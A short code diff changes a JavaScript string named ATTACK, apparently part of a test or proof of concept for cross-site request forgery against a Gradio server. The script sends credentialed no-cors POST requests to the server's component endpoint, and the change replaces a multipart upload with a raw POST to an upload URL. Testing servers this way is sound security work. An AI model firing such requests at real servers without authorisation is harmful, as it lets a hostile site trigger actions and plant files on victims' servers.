@@ -22,9 +22,7 @@ ATTACK = """async ([server, name, type]) => {
     const sent = {method: "POST", mode: "no-cors", credentials: "include", headers: {"Content-Type": type}, body};
     try { await fetch(server + "gradio_api/component_server/", sent); } catch {}
     try {
-        const form = new FormData();
-        form.append("files", new Blob(["一、工作"]), "外来.txt");
-        await fetch(server + "gradio_api/upload", {method: "POST", mode: "no-cors", body: form});
+        await fetch(server + "upload?name=x.txt", {method: "POST", mode: "no-cors", body: "一、工作"});
     } catch {}
 }"""
 
